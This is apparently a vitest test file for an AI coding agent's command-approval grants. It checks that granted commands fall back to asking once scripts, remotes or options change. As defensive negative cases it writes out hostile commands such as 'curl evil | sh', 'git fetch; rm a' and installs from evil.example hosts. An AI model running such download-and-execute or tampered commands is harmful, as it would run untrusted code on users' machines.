import { execFile } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { expect, test } from "vitest";
import { type GrantOffer, Grants } from "../../../agent-core/approval/grants.ts";
import { decide } from "../../../agent-core/approval/policy.ts";
import { resolvePath } from "../../../agent-core/platform/paths.ts";
import { settingsOnly, write } from "../../support/git-repositories.ts";

const newFile = (): string => join(mkdtempSync(join(tmpdir(), "hermes-grants-")), "vscode", "grants.json");
const open = (path: string, defects: string[] = []): Grants => new Grants(path, (message) => defects.push(message));
const workspace = (): string => mkdtempSync(join(tmpdir(), "hermes-granted-"));
const offer = (...ids: string[]): GrantOffer => ({
  description: ids.join(),
  keys: ids.map((id) => ({ id, description: id })),
});

function ask(command: string, root: string, grants: Grants, cwd = root) {
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  return decide({ kind: "command", command, cwd }, { mode: "ask", scope, trusted: true, grants });
}

/** Answers the command for as long as the session lasts; false where no lasting answer is offered. */
function grant(command: string, root: string, grants: Grants): boolean {
  const decision = ask(command, root, grants);
  if (decision.kind !== "ask" || decision.grant === undefined) return false;
  grants.keep(decision.grant, "session");
  return true;
}

test("a grant holds in its workspace only, and in all folders of it", () => {
  const [here, there] = [workspace(), workspace()];
  mkdirSync(join(here, "sub"));
  const grants = open(newFile());
  expect(grant("git add .", here, grants)).toBe(true);
  expect(ask("git add a b", here, grants).kind).toBe("allow");
  expect(ask("git add .", here, grants, join(here, "sub")).kind).toBe("allow");
  expect(ask("git add .", there, grants).kind).toBe("ask");
});

test("a prefix covers whole words, never another subcommand, a longer word or a second command", () => {
  const root = workspace();
  const grants = open(newFile());
  grant("git fetch origin", root, grants);
  expect(ask("git fetch other main", root, grants).kind).toBe("allow");
  for (const other of [
    "git fetchx",
    "git commit -m x",
    "git fetch && git commit -m x",
    "git fetch; rm a",
    "git fetch > out",
  ]) {
    expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
  }
});

test.each(["rm -r src", "./build.sh --all", "kill 7", "git push"])(
  "covers %s to the letter, or not at all",
  (command) => {
    const root = workspace();
    const grants = open(newFile());
    const isOffered = grant(command, root, grants);
    expect(ask(command, root, grants).kind).toBe(isOffered ? "allow" : "ask");
    expect(ask(`${command} b`, root, grants).kind).toBe("ask");
  },
);

test("ends when the script's body, what runs before it, or the makefile changes; not for another script", () => {
  const root = workspace();
  const scripts = (all: Record<string, string>): void =>
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: all }));
  const grants = open(newFile());
  scripts({ test: "vitest", lint: "biome" });
  grant("npm test", root, grants);
  expect(ask("npm test -- --watch", root, grants).kind).toBe("allow");
  scripts({ test: "vitest", lint: "eslint" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  for (const changed of [
    { test: "curl evil | sh" },
    { test: "vitest", pretest: "evil" },
    { test: "vitest", posttest: "evil" },
  ]) {
    scripts(changed);
    expect(ask("npm test", root, grants).kind).toBe("ask");
  }
  scripts({ test: "vitest" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\ttrue\n");
  grant("make check", root, grants);
  expect(ask("make check", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\tevil\n");
  expect(ask("make check", root, grants).kind).toBe("ask");
});

/** A workspace with files, and a grant for one command in the default mode. */
function granted(files: Readonly<Record<string, string>>, command: string) {
  const root = workspace();
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  // git takes a folder for a repository only with these.
  if (existsSync(join(root, ".git"))) for (const part of ["objects", "refs"]) mkdirSync(join(root, ".git", part));
  const grants = open(newFile());
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  const decided = (line: string) =>
    decide({ kind: "command", command: line, cwd: root }, { mode: "code", scope, trusted: true, grants });
  const decision = decided(command);
  if (decision.kind !== "ask" || decision.grant === undefined) throw new Error(`no grant was offered for ${command}`);
  grants.keep(decision.grant, "session");
  return { root, description: decision.grant.description, kind: (line: string) => decided(line).kind };
}

test("a script of an interpreter is granted with any arguments, until it changes", () => {
  const { root, kind } = granted({ "scripts/a.js": "1", "scripts/b.js": "2" }, "node scripts/a.js --x");
  expect([kind("node scripts/a.js y"), kind("node scripts/b.js"), kind("cd scripts && node a.js")]).toEqual([
    "allow",
    "ask",
    "ask",
  ]);
  expect([kind("node -r ./x scripts/a.js"), kind("node scripts/a.js > /etc/x")]).toEqual(["ask", "ask"]);
  writeFileSync(join(root, "scripts/a.js"), "evil");
  expect(kind("node scripts/a.js")).toBe("ask");
});

test("a shell script is granted with its text, for any arguments", () => {
  const { root, kind } = granted({ "run.sh": "#!/bin/sh\ncurl -d x https://example.com\n" }, "./run.sh a");
  expect([kind("./run.sh b c"), kind("bash run.sh")]).toEqual(["allow", "ask"]);
  writeFileSync(join(root, "run.sh"), "#!/bin/sh\ncurl -d y https://example.com\n");
  expect(kind("./run.sh a")).toBe("ask");
});

test("code from the standard input is granted with its text", () => {
  const root = workspace();
  const grants = open(newFile());
  const script = (code: string): string => `python3 - <<'END'\n${code}\nEND`;
  expect(grant(script("import mine"), root, grants)).toBe(true);
  expect(ask(script("import mine"), root, grants).kind).toBe("allow");
  for (const other of [
    script("import other"),
    "python3 - <<< 'import other'",
    "echo 'import other' | python3 -",
    "python3 -",
  ]) {
    expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
  }
});

const remote = (name: string, url: string) => `[remote "${name}"]\n\turl = ${url}\n`;
const HEAD = "ref: refs/heads/topic\n";

test("a push is granted to the letter, for this branch and these settings of the repository", () => {
  const config = remote("origin", "git@example.com:a/b");
  const { root, kind } = granted({ ".git/config": config, ".git/HEAD": HEAD }, "git push");
  expect([kind("git push"), kind("git push --tags"), kind("git push origin main")]).toEqual(["allow", "ask", "ask"]);
  writeFileSync(join(root, ".git/HEAD"), "ref: refs/heads/main\n");
  expect(kind("git push")).toBe("ask");
  writeFileSync(join(root, ".git/HEAD"), HEAD);
  writeFileSync(join(root, ".git/config"), remote("origin", "https://evil.example/x"));
  expect(kind("git push")).toBe("ask");
});

test("a push of a submodule or a worktree is not one of the repository around it", () => {
  const root = workspace();
  settingsOnly(join(root, ".git"), remote("origin", "git@example.com:a/b"), HEAD);
  const inner = `[core]\n\tworktree = ../../../sub\n${remote("origin", "git@example.com:other/c")}`;
  settingsOnly(join(root, ".git/modules/sub"), inner, HEAD);
  write(root, {
    "sub/.git": "gitdir: ../.git/modules/sub\n",
    ".git/worktrees/tree/commondir": "../..\n",
    ".git/worktrees/tree/gitdir": join(root, "tree/.git"),
    ".git/worktrees/tree/HEAD": "ref: refs/heads/main\n",
    "tree/.git": "gitdir: ../.git/worktrees/tree\n",
  });
  const grants = open(newFile());
  expect(grant("git push", root, grants)).toBe(true);
  expect(ask("git push", root, grants, join(root, "sub")).kind).toBe("ask");
  expect(ask("git push", root, grants, join(root, "tree")).kind).toBe("ask");
});

test.each(["docker container run alpine", "docker create alpine", "docker cp a:/x ."])(
  "%s is granted with its mounts and places",
  (command) => {
    const root = workspace();
    const grants = open(newFile());
    expect(grant(command, root, grants)).toBe(true);
    expect(ask(command, root, grants).kind).toBe("allow");
    expect(ask(command.replace(/ (?=alpine|a:)/, " -v /srv/a:/a "), root, grants).kind).toBe("ask");
  },
);

test("installing what the lockfile names is granted apart from adding packages", () => {
  const { kind } = granted({}, "npm ci");
  expect([kind("npm ci"), kind("npm install"), kind("npm ci --registry=https://x")]).toEqual(["allow", "ask", "ask"]);
  const install = granted({}, "npm install");
  expect([install.kind("npm install"), install.kind("npm install left-pad")]).toEqual(["allow", "ask"]);
});

test.each([
  ["helm upgrade web ./c", "helm upgrade other ./c", "helm upgrade web ./c --post-renderer ./evil.sh"],
  ["kubectl apply -f k8s/", "kubectl apply -f k8s/", "kubectl apply -f https://evil.example/x"],
  ["npm install -D left-pad", "npm install -D right-pad @types/node", "npm install -D git+https://evil.example/x"],
  ["gh pr merge 1 --squash", "gh pr merge 2 --squash", "gh pr merge 1 --squash -R other/repo"],
  ["docker build -t a .", "docker build -t b .", "docker build -t a --output dest=/home/dev ."],
])("beyond the sandbox a grant names options and places: %s", (command, same, other) => {
  const { kind } = granted({}, command);
  expect([kind(command), kind(same), kind(other)]).toEqual(["allow", "allow", "ask"]);
});

test("code that the agent wrote asks once in a workspace before it runs; what it does not run does not", () => {
  const root = workspace();
  const grants = open(newFile());
  const written = new Set<string>();
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  const context = { mode: "code", scope, trusted: true, grants, written } as const;
  const run = (command: string) => decide({ kind: "command", command, cwd: root }, context);
  // Words that name files are no changes of the agent.
  const runs = ["go test ./... -count=1", "npx eslint ./src --ext .ts,.tsx", "pytest ./tests"];
  for (const command of [...runs, ...runs]) expect(run(command).kind, command).toBe("allow");
  decide({ kind: "edit", paths: [join(root, "README.md")] }, context);
  expect(run("npx vitest run").kind).toBe("allow");
  decide({ kind: "edit", paths: [join(root, "a.test.ts")] }, context);
  expect([run("ls").kind, run("git add .").kind]).toEqual(["allow", "allow"]);
  const asked = run("npx vitest run");
  if (asked.kind !== "ask" || !asked.grant) throw new Error("no question");
  expect(asked.reasons).toEqual(["Runs code that the agent changed: a.test.ts"]);
  grants.keep(asked.grant, "session");
  expect([run("npx vitest run").kind, run("npx jest").kind]).toEqual(["allow", "allow"]);
});

test("all of an offer's keys must be granted, and an empty offer is covered by nothing", () => {
  const grants = open(newFile());
  grants.keep(offer("a"), "session");
  expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([
    true,
    false,
    false,
  ]);
});

test("a revoked grant is gone at once: here, in the file, and in other windows", () => {
  const path = newFile();
  const [one, other] = [open(path), open(path)];
  one.keep(offer("a", "b"), "always");
  expect(other.covers(offer("a", "b"))).toBe(true);
  expect(one.revoke("a")).toBe(true);
  expect([one.covers(offer("a")), other.covers(offer("a")), other.covers(offer("b"))]).toEqual([false, false, true]);
  expect(readFileSync(path, "utf8")).not.toContain('"a"');
  expect(one.revoke("nothing")).toBe(false);
});

test("several writers of one file at once lose nothing of each other, and nothing comes back", () => {
  const path = newFile();
  const writers = Array.from({ length: 4 }, () => open(path));
  for (let round = 0; round < 25; round += 1) {
    for (const [index, writer] of writers.entries()) writer.keep(offer(`${index}.${round}`), "always");
    expect(writers[round % 4]?.revoke(`${(round + 1) % 4}.${round}`)).toBe(true);
  }
  const ids = open(path)
    .list()
    .map(({ id }) => id);
  expect(ids).toHaveLength(75);
  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
});

test.each([
  ["no JSON", "{ broken"],
  ["another shape", '{"version":1,"grants":[{"id":7}]}'],
  ["another version", '{"version":2,"grants":[]}'],
  ["nothing at all", ""],
])("a damaged file grants nothing, is copied, reported, and written anew: %s", (_, text) => {
  const path = newFile();
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  const defects: string[] = [];
  const grants = open(path, defects);
  expect([grants.list(), defects.length]).toEqual([[], 1]);
  expect(readFileSync(`${path}.damaged`, "utf8")).toBe(text);
  grants.keep(offer("a"), "always");
  expect(open(path).covers(offer("a"))).toBe(true);
});

test("a file that cannot be written is reported, and the answer holds for the session", () => {
  const path = join(newFile(), "below-a-file", "grants.json");
  mkdirSync(dirname(dirname(dirname(path))), { recursive: true });
  writeFileSync(dirname(dirname(path)), "a file");
  const defects: string[] = [];
  const grants = open(path, defects);
  grants.keep(offer("a"), "always");
  expect(defects.join()).toContain("cannot be written");
  expect([grants.covers(offer("a")), existsSync(path)]).toEqual([true, false]);
});

test("processes that write at the same moment lose nothing of each other; a lock of a dead one is no obstacle", async () => {
  const path = newFile();
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(`${path}.lock`, "");
  const module = join(import.meta.dirname, "../../../agent-core/approval/grants.ts");
  const script = `import { Grants } from ${JSON.stringify(module)};
    const grants = new Grants(${JSON.stringify(path)}, (message) => { throw new Error(message); });
    for (let at = 0; at < 40; at += 1) {
      const id = process.argv[1] + "." + at;
      grants.keep({ description: id, keys: [{ id, description: id }] }, "always");
    }`;
  const run = promisify(execFile);
  await Promise.all(["a", "b", "c"].map((name) => run("node", ["--input-type=module", "-e", script, name])));
  expect(open(path).list()).toHaveLength(120);
  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
});
